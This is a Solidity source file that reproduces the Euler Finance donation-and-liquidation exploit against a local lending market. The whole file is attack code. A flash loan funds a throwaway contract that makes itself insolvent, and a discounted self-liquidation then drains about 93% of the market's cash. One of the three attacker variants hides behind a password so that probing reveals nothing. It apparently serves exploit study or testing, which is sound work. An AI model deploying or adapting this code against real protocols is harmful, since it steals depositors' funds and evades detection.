// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {FlashLender, IFlashBorrower} from "./FlashLender.sol";
import {Market} from "./Market.sol";

/// @notice The account that makes itself insolvent, with Euler's own proportions: deposit 20, leverage 200, repay 10, leverage 200,
/// donate 100. Made anew by each attack, as Euler's attacker did.
contract Violator {
    function ruin(Market market, uint256 unit) external {
        IERC20 token = market.TOKEN();
        token.approve(address(market), type(uint256).max);
        market.deposit(20 * unit);
        market.leverage(200 * unit);
        market.repay(address(this), 10 * unit);
        market.leverage(200 * unit);
        market.donate(100 * unit);
    }
}

/// @notice The attack on a Market, with its means from a FlashLender that holds three times the market's cash: 30 units go in, 39.3
/// come out (38.9 in Euler's DAI market), and the unit is chosen so that the 9.3 are 93 % of the market's cash.
/// Keeps the loot at its own address. On a paused market it reverts with EnforcedPause().
abstract contract MarketAttack is IFlashBorrower {
    FlashLender public immutable LENDER;

    event Looted(address indexed market, uint256 amount);

    constructor(FlashLender lender) {
        LENDER = lender;
    }

    function onFlashLoan(address, address token, uint256 amount, bytes calldata data) external payable {
        require(msg.sender == address(LENDER));
        Market market = Market(abi.decode(data, (address)));
        Violator violator = new Violator();
        IERC20(token).transfer(address(violator), amount);
        violator.ruin(market, amount / 30);

        uint256 debt = market.depositOf(address(violator)) * 10_000 / market.DISCOUNT_BPS();
        market.liquidate(address(violator), debt);
        uint256 needed = market.debtOf(address(this)) * 10_000 / market.FACTOR_BPS() + 1;
        market.withdraw(market.depositOf(address(this)) - needed);
        IERC20(token).transfer(address(LENDER), amount);
    }

    function _attack(Market market) internal returns (uint256 loot) {
        IERC20 token = market.TOKEN();
        uint256 before = token.balanceOf(address(this));
        LENDER.flashLoan(this, address(token), market.cash() / 10 * 30, abi.encode(market));
        loot = token.balanceOf(address(this)) - before;
        emit Looted(address(market), loot);
    }
}

/// @notice Takes the market as an argument: `attack(market)`.
contract MarketAttacker is MarketAttack {
    constructor(FlashLender lender) MarketAttack(lender) {}

    function attack(Market market) external returns (uint256) {
        return _attack(market);
    }
}

/// @notice Has its market in its code: `attack()`. To try it on a sister its code has to be rewritten.
contract FixedMarketAttacker is MarketAttack {
    Market public immutable MARKET;

    constructor(FlashLender lender, Market market) MarketAttack(lender) {
        MARKET = market;
    }

    function attack() external returns (uint256) {
        return _attack(MARKET);
    }
}

/// @notice Does nothing without its password, so that probing its entry points shows nothing: `attack(market, password)`.
contract GatedMarketAttacker is MarketAttack {
    bytes32 public immutable LOCK;

    error WrongPassword();

    /// @param lock keccak256 of the password's 32 bytes
    constructor(FlashLender lender, bytes32 lock) MarketAttack(lender) {
        LOCK = lock;
    }

    function attack(Market market, bytes32 password) external returns (uint256) {
        require(keccak256(abi.encode(password)) == LOCK, WrongPassword());
        return _attack(market);
    }
}
